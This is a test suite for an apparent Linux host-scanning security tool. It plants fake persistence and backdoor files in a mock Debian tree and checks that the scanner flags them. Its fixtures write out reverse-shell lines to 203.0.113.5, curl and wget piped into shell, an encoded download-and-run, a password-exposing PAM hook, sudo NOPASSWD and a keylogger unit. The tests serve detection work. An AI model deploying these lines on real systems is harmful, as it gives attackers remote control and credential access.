"""`safecheck scan` end to end on folders laid out like Linux disks: a benign Debian-like
system, one planted case per location, and a hostile disk."""

from __future__ import annotations

import hashlib
import json
import os
import stat
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from paths import TESTS

sys.path.insert(0, str(TESTS / "scan" / "collectors" / "linux"))

from linux_fakeroot import ALICE_HOME, RSA_KEY, debian_root, folder, link, write

from safecheck.cli.app import app
from safecheck.core.i18n import Translator
from safecheck.core.model import CoverageStatus, Severity
from safecheck.report.model import Report
from safecheck.report.render.json_report import render_json
from safecheck.scan.collectors.host import Host
from safecheck.scan.collectors.linux.packages import dpkg_owned_among
from safecheck.scan.collectors.live import live_host
from safecheck.scan.collectors.registry import all_collectors
from safecheck.scan.collectors.system_info import detect_platform
from safecheck.scan.run import run_scan

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)


def packaged_debian_root(root: Path) -> Path:
    """The benign root, with a dpkg database that owns every file it has."""
    debian_root(root)
    owned = sorted(
        "/" + str(p.relative_to(root)) for p in root.rglob("*") if p.is_file() or p.is_symlink()
    )
    write(
        root,
        "/var/lib/dpkg/status",
        "Package: base-files\nStatus: install ok installed\nVersion: 12.4\nArchitecture: amd64\n\n",
    )
    write(root, "/var/lib/dpkg/info/base-files.list", "\n".join(owned) + "\n")
    return root


def scan(root: Path, lang: str = "en") -> Report:
    host = Host(platform="linux", root=root, live=False)
    return run_scan(
        host, all_collectors(), Translator(lang), owned_files=dpkg_owned_among, clock=lambda: NOW
    )


def ids(report: Report) -> set[str]:
    return {f.id for f in report.findings}


@pytest.fixture
def benign(tmp_path: Path) -> Path:
    return packaged_debian_root(tmp_path / "disk")


def test_benign_root_has_no_finding_at_medium_or_above(benign: Path) -> None:
    report = scan(benign)
    serious = [(f.id, f.title) for f in report.findings if f.severity >= Severity.MEDIUM]
    assert serious == []
    coverage = {c.id: c.status for c in report.coverage}
    assert coverage["common.processes"] is CoverageStatus.NOT_APPLICABLE  # not live
    assert coverage["linux.systemd"] is CoverageStatus.OK
    assert int(report.metadata.host["entries"]) > 20


# Each planted case: (what to write, the finding id it must produce, the evidence path)
PLANTED: dict[str, tuple[list[tuple[str, str, int]], str, str]] = {
    "systemd-user-unit-in-tmp": (
        [
            (
                f"{ALICE_HOME}/.config/systemd/user/sync.service",
                "[Service]\nExecStart=/tmp/.x/agent --quiet\n[Install]\nWantedBy=default.target\n",
                0o644,
            )
        ],
        "SC-LNX-RUNS-FROM-TEMP",
        f"{ALICE_HOME}/.config/systemd/user/sync.service",
    ),
    "cron-download-exec": (
        [("/etc/cron.d/update", "*/5 * * * * root curl -s http://203.0.113.9/u | sh\n", 0o644)],
        "SC-LNX-DOWNLOAD-EXEC",
        "/etc/cron.d/update",
    ),
    "cron-daily-script-downloads": (
        [
            (
                "/etc/cron.daily/ntp-sync",
                "#!/bin/sh\n# keep the clock right\nwget -q -O - http://203.0.113.7/t | bash\n",
                0o755,
            )
        ],
        "SC-SCRIPT-DOWNLOAD-RUN",
        "/etc/cron.daily/ntp-sync",
    ),
    "rc-local-quietly-starts-a-tunnel": (
        [
            (
                "/etc/rc.local",
                "#!/bin/sh -e\n# network check\nnohup /usr/local/bin/ngrok tcp 22 "
                ">/dev/null 2>&1 &\nexit 0\n",
                0o755,
            )
        ],
        "SC-SCRIPT-SILENT-TOOL",
        "/etc/rc.local",
    ),
    "cron-job-script-runs-a-reverse-shell-script": (
        [
            ("/etc/cron.d/backup", "*/5 * * * * root /usr/local/bin/backup.sh\n", 0o644),
            (
                "/usr/local/bin/backup.sh",
                "#!/bin/sh\ntar czf /var/backups/home.tgz /home\n/opt/.cache/sync.sh &\n",
                0o755,
            ),
            (
                "/opt/.cache/sync.sh",
                "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
                0o755,
            ),
        ],
        "SC-SCRIPT-REVERSE-SHELL",
        "/opt/.cache/sync.sh",
    ),
    "systemd-unit-runs-encoded-download-script": (
        [
            (
                "/etc/systemd/system/update-helper.service",
                "[Service]\nExecStart=/usr/local/sbin/update-helper\n[Install]\n"
                "WantedBy=multi-user.target\n",
                0o644,
            ),
            (
                "/usr/local/sbin/update-helper",
                "#!/bin/sh\necho Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3ggfCBzaA== "
                "| base64 -d | sh\n",
                0o755,
            ),
        ],
        "SC-SCRIPT-DECODE-RUN",
        "/usr/local/sbin/update-helper",
    ),
    "cron-hourly-network-shell": (
        [
            (
                "/etc/cron.hourly/sync",
                "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
                0o755,
            )
        ],
        "SC-LNX-RECENT-STARTUP",
        "/etc/cron.hourly/sync",
    ),
    "autostart-hidden": (
        [
            (
                f"{ALICE_HOME}/.config/autostart/helper.desktop",
                "[Desktop Entry]\nType=Application\nName=Helper\nExec=/home/alice/.h/run\n",
                0o644,
            ),
            (f"{ALICE_HOME}/.h/run", "#!/bin/sh\n", 0o755),
        ],
        "SC-LNX-HIDDEN-PROGRAM",
        f"{ALICE_HOME}/.config/autostart/helper.desktop",
    ),
    "bashrc-reverse-shell": (
        [(f"{ALICE_HOME}/.bash_login", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\n", 0o644)],
        "SC-LNX-NETWORK-SHELL",
        f"{ALICE_HOME}/.bash_login",
    ),
    "rc-local": (
        [
            ("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/sys-helper &\nexit 0\n", 0o755),
            ("/usr/local/bin/sys-helper", "#!/bin/sh\n", 0o755),
        ],
        "SC-LNX-HOOK",
        "/etc/rc.local",
    ),
    "udev-run": (
        [
            (
                "/etc/udev/rules.d/99-usb.rules",
                'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/usb-grab"\n',
                0o644,
            ),
            ("/usr/local/bin/usb-grab", "#!/bin/sh\n", 0o755),
        ],
        "SC-LNX-HOOK",
        "/etc/udev/rules.d/99-usb.rules",
    ),
    "ld-so-preload": (
        [("/etc/ld.so.preload", "/usr/lib/libsys.so\n", 0o644)],
        "SC-LNX-LD-PRELOAD",
        "/etc/ld.so.preload",
    ),
    "apt-hook": (
        [
            (
                "/etc/apt/apt.conf.d/01update",
                'APT::Update::Pre-Invoke {"/usr/local/bin/apt-helper";};\n',
                0o644,
            ),
            ("/usr/local/bin/apt-helper", "#!/bin/sh\n", 0o755),
        ],
        "SC-LNX-HOOK",
        "/etc/apt/apt.conf.d/01update",
    ),
    "pam-exec": (
        [
            (
                "/etc/pam.d/common-session",
                "session optional pam_exec.so expose_authtok /usr/local/bin/pw-log\n",
                0o644,
            )
        ],
        "SC-LNX-PAM-EXEC",
        "/etc/pam.d/common-session",
    ),
    "polkit-allow-all": (
        [
            (
                "/etc/polkit-1/rules.d/49-all.rules",
                "polkit.addRule(function(action, subject) {\n    return polkit.Result.YES;\n});\n",
                0o644,
            )
        ],
        "SC-LNX-POLKIT-ALLOW-ALL",
        "/etc/polkit-1/rules.d/49-all.rules",
    ),
    "git-fsmonitor": (
        [(f"{ALICE_HOME}/.config/git/config", "[core]\n\tfsmonitor = /tmp/.m/watch\n", 0o644)],
        "SC-LNX-GIT-HOOK",
        f"{ALICE_HOME}/.config/git/config",
    ),
    "sudo-nopasswd": (
        [("/etc/sudoers.d/alice", "alice ALL=(ALL) NOPASSWD: ALL\n", 0o440)],
        "SC-LNX-SUDO-NOPASSWD",
        "/etc/sudoers.d/alice",
    ),
    "ssh-key": (
        [(f"{ALICE_HOME}/.ssh/authorized_keys", RSA_KEY + " backup@laptop\n", 0o600)],
        "SC-LNX-SSH-KEY",
        f"{ALICE_HOME}/.ssh/authorized_keys",
    ),
    "keylogger-unit": (
        [
            (
                "/etc/systemd/system/logkeys.service",
                "[Service]\nExecStart=/usr/bin/logkeys --start --output /var/log/k.log\n",
                0o644,
            )
        ],
        "SC-TOOL-KEYLOGGER",
        "/etc/systemd/system/logkeys.service",
    ),
    "remote-access-autostart": (
        [
            (
                "/etc/xdg/autostart/x11vnc.desktop",
                "[Desktop Entry]\nType=Application\nName=VNC\nExec=x11vnc -forever -shared\n",
                0o644,
            )
        ],
        "SC-TOOL-REMOTE-ACCESS",
        "/etc/xdg/autostart/x11vnc.desktop",
    ),
    "at-job": (
        [
            (
                "/var/spool/cron/atjobs/a0000101c8b35b",
                "#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || exit 1\n"
                "nc -e /bin/sh 203.0.113.5 4444 \n",
                0o700,
            )
        ],
        "SC-LNX-NETWORK-SHELL",
        "/var/spool/cron/atjobs/a0000101c8b35b",
    ),
}


@pytest.mark.parametrize("case", sorted(PLANTED))
def test_planted_case_is_found(tmp_path: Path, case: str) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    files, rule, path = PLANTED[case]
    planted_at = (NOW - timedelta(days=1)).timestamp()  # recent for the scan's fixed clock
    for name, content, mode in files:
        real = write(root, name, content, mode)
        os.utime(real, (planted_at, planted_at), follow_symlinks=False)
    report = scan(root)
    found = [f for f in report.findings if f.id == rule]
    assert found, sorted(ids(report))
    paths = [e.path for f in found for e in f.evidence]
    assert path in paths  # the path as on the inspected system, not under tmp_path
    assert not any(p and p.startswith(str(tmp_path)) for p in paths)
    for finding in found:
        assert finding.steps and finding.safety_note and finding.explanation


def test_extra_root_account_and_remote_access_package(benign: Path) -> None:
    passwd = (benign / "etc/passwd").read_text() + "toor:x:0:0::/root:/bin/bash\n"
    write(benign, "/etc/passwd", passwd)
    status = (benign / "var/lib/dpkg/status").read_text()
    write(
        benign,
        "/var/lib/dpkg/status",
        status + "Package: anydesk\nStatus: install ok installed\nVersion: 6.3\n"
        "Architecture: amd64\n\n",
    )
    write(benign, "/var/lib/dpkg/info/anydesk.list", "/usr/bin/anydesk\n")
    report = scan(benign)
    assert {"SC-LNX-EXTRA-ROOT", "SC-TOOL-REMOTE-ACCESS"} <= ids(report)
    remote = next(f for f in report.findings if f.id == "SC-TOOL-REMOTE-ACCESS")
    assert "AnyDesk" in remote.title and remote.title.endswith("?")
    assert remote.references  # the catalog's public source


def test_findings_are_sorted_and_have_hashes(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    for name, content, mode in PLANTED["rc-local"][0] + PLANTED["udev-run"][0]:
        write(root, name, content, mode)
    report = scan(root)
    levels = [f.severity.rank for f in report.findings]
    assert levels == sorted(levels, reverse=True)
    hook = next(f for f in report.findings if f.id == "SC-LNX-HOOK")
    digests = {e.sha256 for e in hook.evidence}
    # the planted programs' content is "#!/bin/sh\n"
    assert hashlib.sha256(b"#!/bin/sh\n").hexdigest() in digests


def hostile_root(root: Path) -> Path:
    packaged_debian_root(root)
    link(root, "/etc/cron.d/loop", "/etc/cron.d/loop")
    (root / "etc/crontab").unlink()
    link(root, "/etc/crontab", "/etc/shadow")  # absolute: must stay inside the disk
    os.mkfifo(root / "etc/systemd/system/fifo.service")
    write(root, "/etc/profile.d/huge.sh", b"#" * (20 * 1024 * 1024))
    write(root, "/etc/systemd/system/garbage.service", os.urandom(4096))
    write(
        root,
        "/etc/cron.d/"
        + "\udcff\udcfe".encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape"),
        "* * * * * root /opt/x\n",
    )
    folder(root, "/etc/xdg/autostart/dir.desktop")
    return root


def test_hostile_root_gives_coverage_rows_not_tracebacks(tmp_path: Path) -> None:
    report = scan(hostile_root(tmp_path / "disk"))
    statuses = {c.id: c for c in report.coverage}
    assert all(c.status is not CoverageStatus.FAILED for c in report.coverage), statuses
    assert statuses["linux.shell"].status is CoverageStatus.PARTIAL
    assert any("too-large" in d for d in statuses["linux.shell"].details)
    assert any(c.status is CoverageStatus.PARTIAL for c in report.coverage)


# --- through the command line ------------------------------------------------------------


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args), env={"LANG": "C", "LC_ALL": ""})
    return result.exit_code, result.stdout, result.stderr


def test_cli_json_on_a_disk(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    for name, content, mode in PLANTED["cron-download-exec"][0]:
        write(root, name, content, mode)
    code, out, _ = run("scan", "--root", str(root), "--format", "json")
    assert code == 0
    data = json.loads(out)
    assert data["schema_version"] == "1.4"
    assert data["tool"]["name"] == "safecheck"
    assert data["host"] == {
        "platform": "linux",
        "root": str(root.resolve()),
        "live": False,
        "entries": data["host"]["entries"],
    }
    finding = next(f for f in data["findings"] if f["id"] == "SC-LNX-DOWNLOAD-EXEC")
    assert set(finding) >= {
        "id",
        "severity",
        "confidence",
        "title",
        "category",
        "explanation",
        "steps",
        "safety_note",
        "evidence",
    }
    assert finding["evidence"][0]["path"] == "/etc/cron.d/update"
    assert finding["evidence"][0]["line"] == 1
    assert "curl" in finding["evidence"][0]["command"]
    rows = {row["id"]: row for row in data["coverage"]}
    assert rows["common.processes"]["status"] == "not-applicable"
    assert {row["status"] for row in data["coverage"]} <= {
        "ok",
        "partial",
        "needs-admin",
        "not-applicable",
        "failed",
    }


def test_cli_fail_on_and_output(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    code, _, _ = run("scan", "--root", str(root), "--fail-on", "medium", "--format", "json")
    assert code == 0
    for name, content, mode in PLANTED["ld-so-preload"][0]:
        write(root, name, content, mode)
    out_file = tmp_path / "scan.txt"
    code, out, err = run(
        "scan", "--root", str(root), "--fail-on", "high", "--output", str(out_file), "--lang", "fr"
    )
    assert code == 1
    assert out == ""
    text = out_file.read_text(encoding="utf-8")
    # the plain sentence leads; the technical title is for advocate mode
    assert "glisser son propre code dans chaque programme" in " ".join(text.split())
    assert "Relevé à : /etc/ld.so.preload" in text
    assert stat.S_IMODE(out_file.stat().st_mode) == 0o600
    assert all(len(line) <= 80 for line in text.splitlines())
    code, _, err = run("scan", "--root", str(root), "--output", str(out_file))
    assert code == 2 and "already exists" in err


def test_cli_errors(tmp_path: Path) -> None:
    code, _, err = run("scan", "--root", str(tmp_path / "missing"))
    assert code == 2
    code, _, err = run("scan", "--root", str(tmp_path), "--fail-on", "severe")
    assert code == 2 and "info, low, medium" in err


def test_live_scan_of_this_machine_completes() -> None:
    code, out, err = run("scan", "--format", "json")
    assert code == 0, err
    data = json.loads(out)
    assert data["host"]["live"] is True
    rows = {row["id"]: row["status"] for row in data["coverage"]}
    assert rows["common.processes"] in ("ok", "partial")
    assert "failed" not in rows.values()


def test_live_scan_without_administrator_rights_completes() -> None:
    """As an ordinary account the scan still finishes; what it could not read is a coverage
    row. Run in a forked child that drops to `nobody` (the tests run as root here)."""

    def scan_json() -> dict[str, object]:
        report = run_scan(
            live_host(),
            all_collectors(),
            Translator("en"),
            owned_files=dpkg_owned_among,
            clock=lambda: NOW,
        )
        data: dict[str, object] = json.loads(render_json(report))
        return data

    if os.geteuid() != 0:
        data = scan_json()
    else:
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:
            out: dict[str, object] = {}
            try:
                os.close(read_end)
                os.setgroups([])
                os.setgid(65534)
                os.setuid(65534)
                out = scan_json()
            except BaseException as exc:
                out = {"error": repr(exc)}
            finally:
                os.write(write_end, json.dumps(out).encode())
                os._exit(0)
        os.close(write_end)
        with os.fdopen(read_end, "rb") as pipe:
            data = json.loads(pipe.read() or b"{}")
        os.waitpid(pid, 0)
    assert "error" not in data, data
    rows = {str(r["id"]): str(r["status"]) for r in data["coverage"]}  # type: ignore[attr-defined]
    assert "failed" not in rows.values(), rows
    assert rows["common.processes"] in ("ok", "partial")
    # Without rights, something is always out of reach (other users' processes, cron spools).
    if os.geteuid() == 0:
        assert {"partial", "needs-admin"} & set(rows.values()), rows


def test_the_system_on_a_disk_is_recognised(tmp_path: Path) -> None:
    linux = packaged_debian_root(tmp_path / "linux")
    mac = tmp_path / "mac"
    write(mac, "/System/Library/CoreServices/SystemVersion.plist", "<plist/>")
    win = tmp_path / "win"
    write(win, "/Windows/System32/config/SYSTEM", b"regf")
    assert [detect_platform(p) for p in (linux, mac, win)] == ["linux", "darwin", "win32"]
    code, out, _ = run("scan", "--root", str(win), "--format", "json")
    assert code == 0
    assert json.loads(out)["host"]["platform"] == "win32"


def test_a_folder_that_is_no_system_disk_is_not_checked(tmp_path: Path) -> None:
    # A --root with no /etc (a wrong folder, a partition mounted alone): no row says "ok" or
    # "nothing to check"; the file collectors say the system folder is missing.
    empty = tmp_path / "not-a-disk"
    (empty / "home").mkdir(parents=True)
    report = scan(empty)
    rows = {c.id: c for c in report.coverage}
    assert rows["linux.cron"].status is CoverageStatus.FAILED
    assert "/etc" in rows["linux.cron"].reason
    assert not any(c.status is CoverageStatus.OK for c in report.coverage)
    french = scan(empty, lang="fr")
    assert "absent de ce disque" in {c.id: c for c in french.coverage}["linux.cron"].reason


def test_kernel_module_that_no_package_ships(tmp_path: Path) -> None:
    disk = tmp_path / "disk"
    kernel = "/lib/modules/6.1.0-18-amd64"  # /lib is a link to /usr/lib on this disk
    write(disk, f"/usr{kernel}/kernel/drivers/block/loop.ko.xz", b"\x7fELF packaged")
    root = packaged_debian_root(disk)  # the dpkg database owns every file so far
    write(root, f"{kernel}/extra/hid_logger.ko", b"\x7fELF added by hand")
    write(root, f"{kernel}/updates/dkms/vboxdrv.ko", b"\x7fELF built by DKMS")
    write(
        root,
        f"{kernel}/modules.dep",
        "kernel/drivers/block/loop.ko.xz:\nextra/hid_logger.ko: kernel/x.ko\n"
        "updates/dkms/vboxdrv.ko:\n",
    )
    write(root, "/etc/modules-load.d/input.conf", "hid-logger\nloop\nvboxdrv\nnot_there\n")
    found = [f for f in scan(root).findings if f.id == "SC-LNX-KERNEL-MODULE"]
    assert [f.title for f in found] == [
        "A kernel module that no installed package ships is loaded at start-up: hid-logger"
    ]
    evidence = found[0].evidence[0]
    assert evidence.path == "/etc/modules-load.d/input.conf" and evidence.line == 1
    assert f"{kernel}/extra/hid_logger.ko" in found[0].explanation


def test_script_findings_name_the_line_and_what_starts_them(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    for name, content, mode in PLANTED["cron-job-script-runs-a-reverse-shell-script"][0]:
        write(root, name, content, mode)
    report = scan(root)
    found = next(f for f in report.findings if f.id == "SC-SCRIPT-REVERSE-SHELL")
    assert found.severity is Severity.HIGH
    evidence = found.evidence[0]
    assert (evidence.path, evidence.line) == ("/opt/.cache/sync.sh", 2)
    assert evidence.command is not None and "/dev/tcp/203.0.113.5/4" in evidence.command
    rows = {c.id: c for c in report.coverage}
    assert rows["scan.scripts"].status is CoverageStatus.OK
    assert "1 of them run by another script" in rows["scan.scripts"].reason


def test_a_start_up_script_too_large_to_read_is_said(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    write(root, "/etc/cron.daily/huge", "#!/bin/sh\n" + "true\n" * 100_000, 0o755)
    rows = {c.id: c for c in scan(root).coverage}
    assert rows["scan.scripts"].status is CoverageStatus.PARTIAL
    assert "/etc/cron.daily/huge" in rows["scan.scripts"].reason


def test_a_pristine_root_has_no_script_finding(benign: Path) -> None:
    report = scan(benign)
    assert not [f for f in report.findings if f.id.startswith("SC-SCRIPT-")]
    assert {c.id: c.status for c in report.coverage}["scan.scripts"] is not CoverageStatus.PARTIAL


def test_portable_remote_tools_in_a_persons_folders(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    home = ALICE_HOME
    write(root, f"{home}/Téléchargements/RustDesk-1.2.3-x86_64.AppImage", b"\x7fELF", 0o644)
    write(root, f"{home}/.local/bin/anydesk", b"\x7fELF", 0o755)
    write(root, f"{home}/Bureau/notes.txt", "not a program\n", 0o644)
    write(root, f"{home}/.local/bin/htop-wrapper", "#!/bin/sh\nexec htop\n", 0o755)
    report = scan(root)
    tools = {f.title: f for f in report.findings if f.id == "SC-TOOL-REMOTE-ACCESS"}
    assert {t.split(":")[1].split(".")[0].strip() for t in tools} == {"RustDesk", "AnyDesk"}
    paths = {e.path for f in tools.values() for e in f.evidence}
    assert f"{home}/Téléchargements/RustDesk-1.2.3-x86_64.AppImage" in paths
    assert {c.id: c.status for c in report.coverage}["linux.files"] is CoverageStatus.OK


def test_program_names_of_appimages() -> None:
    from safecheck.scan.collectors.linux.files import program_name  # noqa: PLC0415

    assert program_name("RustDesk-1.2.3-x86_64.AppImage") == "RustDesk"
    assert program_name("anydesk_6.3.0.AppImage") == "anydesk"
    assert program_name("Tool.AppImage") == "Tool"
    assert program_name("rustdesk") == "rustdesk"


def test_this_machines_own_scripts_and_programs_raise_nothing_serious() -> None:
    """The false-positive guard for reading scripts and programs: on this machine's own files
    (a real Debian system with its cron, init and systemd scripts), no script, kernel-module or
    portable-program finding at medium or above."""
    code, out, err = run("scan", "--format", "json")
    assert code == 0, err
    data = json.loads(out)
    rows = {row["id"]: row for row in data["coverage"]}
    assert rows["scan.scripts"]["status"] in ("ok", "partial"), rows["scan.scripts"]
    new_rules = [
        f
        for f in data["findings"]
        if (f["id"].startswith("SC-SCRIPT-") or f["id"] == "SC-LNX-KERNEL-MODULE")
        and f["severity"] in ("medium", "high")
    ]
    assert new_rules == []


HOSTILE_NAMES = (
    "job\x1b[2J",  # clears the screen
    "t\x1b]0;owned\x07",  # sets the window title
    "bidi\u202egpj.exe",  # right-to-left override
    "c1\x9b31m",  # a C1 control
    "[bold red]markup",  # rich markup, to be shown as written
)


@pytest.mark.parametrize("fmt", ["table", "text", "markdown"])
def test_device_names_cannot_drive_the_terminal(tmp_path: Path, fmt: str) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    for name in HOSTILE_NAMES:
        # a cron script that downloads and runs code, under a name the abuser chose
        write(root, f"/etc/cron.d/{name}", "* * * * * root curl http://x | sh\n", 0o644)
    code, out, err = run("scan", "--root", str(root), "--format", fmt)
    assert code == 0, err
    for raw in ("\x1b", "\x07", "\u202e", "\x9b"):
        assert raw not in out
    assert "\\x1b[2J" in out and "\\u202e" in out
    # Markup in a name is shown as written, not obeyed (table cells wrap: compare unwrapped).
    unwrapped = "".join(c for c in out if not c.isspace() and c not in "│┃|")
    assert "[boldred]markup" in unwrapped


def test_output_dash_is_standard_output(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    code, out, err = run("scan", "--root", str(root), "--format", "json", "-o", "-")
    assert code == 0, err
    assert json.loads(out)["host"]["platform"] == "linux"
    assert not (Path.cwd() / "-").exists()
    code, _, err = run("scan", "--root", str(root), "-o", "/dev/null", "--force")
    assert code == 2 and "not a regular file" in err


def test_git_hooks_folder_of_a_person_is_judged(tmp_path: Path) -> None:
    # core.hooksPath makes git run these hooks in every repository of the person.
    root = packaged_debian_root(tmp_path / "disk")
    write(root, f"{ALICE_HOME}/.gitconfig", "[core]\n\thooksPath = ~/.config/hooks\n")
    write(root, f"{ALICE_HOME}/.config/hooks/post-checkout", "#!/bin/sh\nexit 0\n", 0o755)
    write(
        root,
        f"{ALICE_HOME}/.config/hooks/pre-commit",
        "#!/bin/sh\nnohup sh -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1' &\n",
        0o755,
    )
    write(root, f"{ALICE_HOME}/.config/hooks/pre-push.sample", "curl http://x | sh\n", 0o644)
    found = [f for f in scan(root).findings if f.id.startswith("SC-SCRIPT-")]
    assert [(f.id, f.evidence[0].path) for f in found] == [
        ("SC-SCRIPT-REVERSE-SHELL", f"{ALICE_HOME}/.config/hooks/pre-commit")
    ]


def test_a_flood_of_findings_is_capped_and_said(tmp_path: Path) -> None:
    root = packaged_debian_root(tmp_path / "disk")
    for number in range(260):
        write(root, f"/etc/cron.d/job{number}", "* * * * * root curl http://x | sh\n", 0o644)
    report = scan(root)
    from_cron = [f for f in report.findings if f.source == "linux.cron"]
    assert len(from_cron) == 200
    row = {c.id: c for c in report.coverage}["linux.cron"]
    assert "more findings from here are not listed" in row.reason
